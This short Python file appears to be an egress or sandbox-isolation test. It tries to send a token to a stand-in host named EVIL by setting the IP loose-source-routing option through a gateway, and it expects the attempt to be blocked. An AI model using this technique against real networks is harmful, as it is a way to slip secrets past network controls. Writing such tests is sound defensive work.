"""
how: a loose source route by way of the gateway
expect: shut
unseen: the kernel of a host drops source-routed packets
"""

import socket

from land import EVIL, GATEWAY, bad
from sockets import tcp
from web import get


def attempt(token):
    return tcp(
        EVIL,
        80,
        get(bad(token)),
        setup=lambda s: s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(GATEWAY) + b"\0"),
    )
